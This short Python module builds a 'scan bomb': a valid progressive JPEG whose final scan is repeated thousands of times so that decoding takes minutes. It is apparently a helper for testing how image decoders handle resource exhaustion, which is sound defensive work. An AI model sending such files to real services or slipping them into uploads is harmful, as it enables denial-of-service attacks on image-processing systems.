"""A JPEG that takes minutes to decode: a real one, whose last scan is repeated."""

import io

from PIL import Image


def scan_bomb(scans: int = 3000, side: int = 6300) -> bytes:
    """Give a progressive JPEG of `side` by `side` pixels with so many scans too many."""
    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, "JPEG", progressive=True, quality=50)
    content = out.getvalue()
    last = content[content.rfind(b"\xff\xda") : -2]
    return content[:-2] + last * scans + b"\xff\xd9"
